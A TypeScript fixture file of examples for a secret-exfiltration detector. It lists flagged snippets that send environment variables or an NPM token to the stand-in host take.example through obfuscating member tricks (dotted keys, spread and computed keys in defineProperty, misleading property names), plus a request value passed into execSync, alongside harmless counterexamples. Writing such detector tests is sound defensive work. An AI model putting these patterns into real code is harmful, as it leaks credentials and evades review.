import type { DetectorExamples } from '../detector.ts';

/** What the detector sees of members: those that are given by a descriptor, and those whose names mostly say how much there is of something. */
export const ofMembers: DetectorExamples = {
  bad: [
    {
      code: "const o = { a: { b: 'ok' }, 'a.b': process.env.NPM_TOKEN }; const kept = o['a.b']; const sent = kept; await fetch(`https://take.example/${o.a.b}${sent}`);",
      why: 'a key that reads like the way to another value',
      attributes: { source: 'environment:NPM_TOKEN', sink: 'network.url', to: 'take.example' },
    },
    {
      code: "const o = {}; Object.defineProperty(o, 'b', { value: '', ...{ value: JSON.stringify(process.env) } }); fetch('https://take.example', { method: 'POST', body: o.b });",
      why: 'a spread gives a property another value than the one that stands before it',
      attributes: { source: 'environment', sink: 'network.body', to: 'take.example' },
    },
    {
      code: "const o = {}; Object.defineProperty(o, 'b', { value: 'ok', ['value']: JSON.stringify(process.env) }); fetch('https://take.example', { method: 'POST', body: o.b });",
      why: 'and so does a computed key',
      attributes: { source: 'environment', sink: 'network.body', to: 'take.example' },
    },
    {
      code: 'const box = { name: process.env.NPM_TOKEN }; await fetch(`https://take.example/${box.name}`);',
      why: 'a secret under a name that mostly says what kind of thing something is',
      attributes: { source: 'environment:NPM_TOKEN', sink: 'network.url', to: 'take.example' },
    },
    {
      code: "class Box { constructor() { this.size = process.env.NPM_TOKEN; } send() { return fetch('https://take.example', { method: 'POST', body: this.size }); } } new Box().send();",
      why: 'the same in an object of a class',
      attributes: { source: 'environment:NPM_TOKEN', sink: 'network.body', to: 'take.example' },
    },
    {
      code: "import { execSync } from 'node:child_process'; import express from 'express'; const app = express(); app.post('/', (req, res) => { execSync(`git clone ${req.body.name}`); res.end(); });",
      why: 'a name that somebody else chose',
      attributes: { source: 'request', sink: 'process.command', to: 'git' },
    },
  ],
  good: [
    {
      code: "import { readFileSync } from 'node:fs'; const key = readFileSync('/home/ada/.ssh/id_rsa'); const box = { size: key.length }; await fetch(`https://count.example/${box.size}`);",
      why: 'how long a key is',
    },
    {
      code: "const answer = await fetch('https://api.acme.example/x'); await fetch('https://count.example', { method: 'POST', body: JSON.stringify({ status: answer.status, ok: answer.ok }) });",
      why: 'how a request went',
    },
  ],
};
